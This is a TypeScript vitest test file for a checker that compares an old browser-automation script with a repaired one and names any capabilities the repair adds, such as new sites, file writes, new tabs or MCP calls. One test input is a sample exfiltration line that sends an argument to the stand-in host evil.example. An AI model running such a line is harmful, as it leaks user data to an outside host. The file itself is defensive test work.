import { expect, it } from 'vitest';

import { whatItAdds } from './what-it-adds.ts';

const OLD =
  "await page.goto('https://shop.example/a');\nawait page.getByRole('button', { name: 'Save' }).click();";

it('lets a mended script do what the old one did, in other places of the page', () => {
  expect(whatItAdds(OLD, OLD.replace('Save', 'Keep files'))).toBeNull();
  expect(whatItAdds(OLD, OLD.replace('/a', '/b'))).toBeNull();
});

it('names what it adds: other sites, files, services, other tabs', () => {
  const added = (line: string) => whatItAdds(OLD, `${OLD}\n${line}`);
  expect(added("await page.goto('https://evil.example/?q=' + args.name)")).toBe('evil.example');
  expect(added("await files.write('a', 'b')")).toBe('files');
  expect(added("await context['newPage']()")).toBe('newPage');
  expect(added("await mcp.call('mail', 'send', {})")).toBe('mcp');
  expect(whatItAdds("await page.getByText('a').click();", 'await page.goto(args.url)')).toBe(
    'goto',
  );
});
